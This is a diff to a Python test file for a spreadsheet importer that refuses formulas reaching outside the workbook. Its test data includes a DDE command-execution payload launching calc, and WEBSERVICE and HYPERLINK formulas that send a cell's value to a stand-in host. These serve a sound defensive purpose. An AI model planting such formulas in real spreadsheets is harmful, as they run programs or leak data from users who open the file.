@@ -64,12 +64,31 @@ def bomb(lie: bool) -> bytes:
     return bytes(damaged)
 
 
-def formulas() -> bytes:
+OUTWARD = (
+    "cmd|' /C calc'!A0",
+    '_xlfn.WEBSERVICE("http://x.invalid/")',
+    'HYPERLINK("http://x.invalid/"&D3,"赵")',
+    "'[别人.xlsx]表'!A1",
+    "'C:\\[别人.et]表 1'!A1",
+    "[1]Sheet1!A1",
+    "VLOOKUP(B3,[1]名单!A:B,2,0)",
+)
+INWARD = (
+    "ROW()-2",
+    'A3&"|"&B3',
+    "表1[2023]*1",
+    "SUM(表1[学时])&'Sheet 2'!B3",
+    '"[x]y!"',
+    "Sheet2!A1",
+    'IF(1,"男","女")',
+)
+
+
+def formulas(*said: str) -> bytes:
     """Cells that would call a program, fetch a page or copy another file, were they ever reckoned."""
     book = openpyxl.load_workbook(io.BytesIO(GOOD))
-    page = book.worksheets[0]
-    page["B3"] = '=HYPERLINK("http://x.invalid/"&D3,"赵")'
-    page["L3"], page["L4"], page["L5"] = "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.invalid/")', "='[别人.xlsx]表'!A1"
+    for row, formula in enumerate(said or OUTWARD, start=3):
+        book.worksheets[0][f"L{row}"] = f"={formula}"
     buffer = io.BytesIO()
     book.save(buffer)
     return buffer.getvalue()
@@ -173,6 +192,20 @@ def test_a_hostile_file_is_refused_in_words_and_the_next_one_is_read(name: str) 
         assert good.result(120) == ""
     assert words in said
     assert bool(words) == bool(said) or name == "entity bomb"
+
+
+@pytest.mark.parametrize("formula", [*OUTWARD, *INWARD])
+def test_a_formula_is_refused_where_it_reaches_out_and_only_there(formula: str) -> None:
+    said = outcome(formulas(formula))  # openpyxl reckons nothing
+    assert ("引用了别的文件或网络" if formula in OUTWARD else "没有算出结果的公式") in said
+
+
+def test_a_formula_shared_down_a_column_that_was_not_reckoned_is_refused() -> None:
+    cell = b'<c r="C4"><f t="shared" si="0"/></c>'
+    content = rewritten(
+        lambda name, part: re.sub(rb'<c r="C4"[^>]*>.*?</c>', cell, part) if "sheet1" in name else part, GOOD
+    )
+    assert "没有算出结果的公式" in outcome(content)
 
 
 def test_a_formula_is_never_reckoned_nor_handed_on() -> None:
